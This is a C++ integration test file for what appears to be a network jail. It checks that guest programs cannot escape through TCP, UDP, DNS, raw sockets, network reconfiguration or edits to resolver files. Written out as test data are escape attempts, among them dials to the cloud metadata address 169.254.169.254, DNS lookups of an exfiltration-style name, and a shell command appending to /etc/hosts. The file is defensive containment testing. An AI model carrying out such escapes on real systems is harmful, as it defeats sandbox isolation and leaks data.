// Ways out of the network, tried by guests inside real jails. The servers that must not be reached are real, too: each is
// on the host and counts what arrives, so a test fails both when the jail lets something through and when it does nothing.

#include "tests/integration/refusals.hpp"
#include "tests/support/origin.hpp"
#include "tests/support/socket_address.hpp"
#include "tests/support/udp_peer.hpp"

#include <gmock/gmock.h>
#include <string>
#include <vector>

namespace sallyport::test {
namespace {

using testing::HasSubstr;
using testing::StartsWith;

std::vector<std::string> const kReset = {"ECONNRESET", "CLOSED", "ECONNREFUSED"};
std::vector<std::string> const kUnreachable = {"EPERM", "EACCES", "ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH"};

JailOutcome run_guest(Jail const& jail, std::string const& guest, std::vector<std::string> arguments,
                      std::vector<std::string> const& options = {}) {
  arguments.insert(arguments.begin(), jail.add_guest(guest));
  return jail.run(options, arguments);
}

TEST(Escape, GuestsDoEscapeWithoutAJail) {
  Origin origin;
  UdpPeer peer;
  Jail jail;
  auto const dialled = run_command({.argv = {jail.add_guest("dial"), "127.0.0.1", std::to_string(origin.port())}});
  EXPECT_THAT(dialled.out, StartsWith("ESCAPED"));
  auto const sent = run_command({.argv = {jail.add_guest("datagram"), "127.0.0.1", std::to_string(peer.port())}});
  EXPECT_THAT(sent.out, StartsWith("ESCAPED"));
  EXPECT_THAT(run_command({.argv = {jail.add_guest("make_socket"), "vsock"}}).out, StartsWith("ESCAPED"));
}

TEST(Escape, TcpToAnyAddressIsResetAndRecorded) {
  Jail jail;
  for (std::string const address :
       {"198.51.100.7", "1.1.1.1", "10.0.0.1", "169.254.169.254", "2001:db8::7", "fd00:ec2::254"}) {
    SCOPED_TRACE(address);
    auto const outcome = run_guest(jail, "dial", {address, "443"});
    expect_guest_refused(outcome, kReset);
    expect_on_record(outcome,
                     {{"type", "egress.request"},
                      {"leg", "transparent"},
                      {"verdict", "deny"},
                      {"reason", "ip_literal"},
                      {"host", address},
                      {"port", "443"}},
                     "dial");
  }
}

TEST(Escape, TcpToAnyPortIsResetAndRecorded) {
  Jail jail;
  for (std::string const port : {"22", "25", "80", "853", "3306", "5432", "6379", "8080", "27017"}) {
    SCOPED_TRACE(port);
    auto const outcome = run_guest(jail, "dial", {"198.51.100.7", port});
    expect_guest_refused(outcome, kReset);
    expect_on_record(outcome, {{"type", "egress.request"}, {"verdict", "deny"}, {"reason", "ip_literal"}, {"port", port}},
                     "dial");
  }
}

TEST(Escape, V4MappedAddressIsTheSameAddress) {
  Jail jail;
  auto const outcome = run_guest(jail, "dial", {"::ffff:198.51.100.7", "443"});
  expect_guest_refused(outcome, kReset);
  expect_on_record(outcome, {{"type", "egress.request"}, {"verdict", "deny"}, {"host", "198.51.100.7"}}, "dial");
}

TEST(Escape, ServicesOfTheHostAreOutOfReach) {
  Jail jail;
  Origin on_loopback;
  auto const v4 = run_guest(jail, "dial", {"127.0.0.1", std::to_string(on_loopback.port())});
  expect_guest_refused(v4, kReset);
  expect_recorded(v4, {{"type", "egress.request"},
                       {"leg", "packet"},
                       {"verdict", "deny"},
                       {"reason", "host_loopback"},
                       {"port", std::to_string(on_loopback.port())}});
  EXPECT_EQ(on_loopback.connections(), 0u);

  Origin on_v6("::1");
  expect_guest_refused(run_guest(jail, "dial", {"::1", std::to_string(on_v6.port())}), kReset);
  EXPECT_EQ(on_v6.connections(), 0u);
}

TEST(Escape, TheHostsOwnAddressIsOutOfReach) {
  auto const address = host_address();
  if (!address) GTEST_SKIP() << "this host has no address but loopback";
  Jail jail;
  Origin origin(*address);
  auto const outcome = run_guest(jail, "dial", {*address, std::to_string(origin.port())});
  expect_guest_refused(outcome, kReset);
  expect_on_record(outcome, {{"type", "egress.request"}, {"verdict", "deny"}, {"reason", "ip_literal"}, {"host", *address}},
                   "dial");
  EXPECT_EQ(origin.connections(), 0u);
}

TEST(Escape, DatagramsAreRefusedAndRecorded) {
  Jail jail;
  for (std::string const address : {"198.51.100.7", "8.8.8.8", "2001:db8::7"}) {
    SCOPED_TRACE(address);
    auto const outcome = run_guest(jail, "datagram", {address, "5353"});
    expect_guest_refused(outcome, kUnreachable);
    expect_recorded(outcome, {{"type", "egress.request"},
                              {"leg", "packet"},
                              {"verdict", "deny"},
                              {"reason", "udp_not_allowed"},
                              {"host", address},
                              {"port", "5353"}});
  }
}

TEST(Escape, DatagramsDoNotReachTheHost) {
  Jail jail;
  UdpPeer on_loopback;
  expect_guest_refused(run_guest(jail, "datagram", {"127.0.0.1", std::to_string(on_loopback.port())}), kUnreachable);
  EXPECT_EQ(on_loopback.datagrams(), 0u);
  if (auto const address = host_address()) {
    UdpPeer on_host(*address);
    expect_guest_refused(run_guest(jail, "datagram", {*address, std::to_string(on_host.port())}), kUnreachable);
    EXPECT_EQ(on_host.datagrams(), 0u);
  }
}

TEST(Escape, LinkLocalAndMulticastAreUnreachable) {
  Jail jail;
  for (std::string const address : {"224.0.0.251", "239.255.255.250", "fe80::1", "ff02::fb", "ff02::1"}) {
    SCOPED_TRACE(address);
    auto errors = kUnreachable;
    errors.insert(errors.end(), {"EINVAL", "EADDRNOTAVAIL"});
    expect_guest_refused(run_guest(jail, "datagram", {address, "5353"}), errors);
  }
}

TEST(Escape, EveryNameServerIsTheStubAndKnowsAllowedNamesOnly) {
  Jail jail;
  for (std::string const server :
       {"8.8.8.8", "1.1.1.1", "9.9.9.9", "208.67.222.222", "127.0.0.1", "2001:4860:4860::8888"}) {
    for (std::string const protocol : {"udp", "tcp"}) {
      SCOPED_TRACE(server + " " + protocol);
      auto const refused = run_guest(jail, "ask_dns", {server, "53", "secret.exfil.example", protocol});
      expect_guest_refused(refused, {"NXDOMAIN"});
      expect_recorded(
          refused, {{"type", "dns.query"}, {"verdict", "deny"}, {"rcode", "NXDOMAIN"}, {"name", "secret.exfil.example"}});
      auto const answered =
          run_guest(jail, "ask_dns", {server, "53", "allowed.example", protocol}, {"--allow", "allowed.example"});
      EXPECT_EQ(answered.exit_code, 0) << answered.err;
      EXPECT_THAT(answered.out, testing::AnyOf(StartsWith("answer: 198.18."), StartsWith("answer: 198.19.")));
    }
  }
}

TEST(Escape, SocketsThatCouldLeaveTheJailCannotBeMade) {
  Jail jail;
  for (std::string const kind : {"raw_icmp",
                                 "raw_tcp",
                                 "raw_ip",
                                 "raw_icmp6",
                                 "ping",
                                 "ping6",
                                 "sctp",
                                 "packet",
                                 "packet_dgram",
                                 "alg",
                                 "vsock",
                                 "vsock_dgram",
                                 "bluetooth",
                                 "can",
                                 "key",
                                 "xdp",
                                 "tipc",
                                 "rds",
                                 "smc",
                                 "netlink_audit",
                                 "netlink_uevent",
                                 "netlink_netfilter",
                                 "netlink_sock_diag",
                                 "netlink_crypto"}) {
    SCOPED_TRACE(kind);
    expect_guest_refused(run_guest(jail, "make_socket", {kind}),
                         {"EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT"});
  }
}

TEST(Escape, RefusedSocketsAreRecorded) {
  Jail jail;
  for (std::string const kind : {"raw_icmp", "packet", "vsock", "ping"}) {
    SCOPED_TRACE(kind);
    auto const outcome = run_guest(jail, "make_socket", {kind});
    expect_on_record(
        outcome, {{"type", "egress.request"}, {"leg", "syscall"}, {"verdict", "deny"}, {"reason", "protocol_not_allowed"}},
        "make_socket");
  }
}

TEST(Escape, TheNetworkOfTheJailCannotBeChanged) {
  Jail jail;
  for (std::string const attempt :
       {"link_down", "add_link", "add_address", "delete_route", "add_route", "flush_rules", "add_table"}) {
    SCOPED_TRACE(attempt);
    expect_guest_refused(run_guest(jail, "change_network", {attempt}), {"EPERM", "EACCES", "EPROTONOSUPPORT"});
  }
}

TEST(Escape, ResolverFilesCannotBeChanged) {
  Jail jail;
  for (std::string const file : {"/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf"}) {
    auto const outcome =
        jail.run({}, {"sh", "-c", "echo '169.254.169.254 allowed.example' >> " + file + " && echo ESCAPED"});
    EXPECT_NE(outcome.exit_code, 0) << file;
    EXPECT_EQ(outcome.out, "") << file;
  }
}

TEST(Escape, NoCapabilityIsLeft) {
  Jail jail;
  expect_guest_refused(run_guest(jail, "capabilities", {}), {"NO_CAPABILITIES"});
}

}  // namespace
}  // namespace sallyport::test
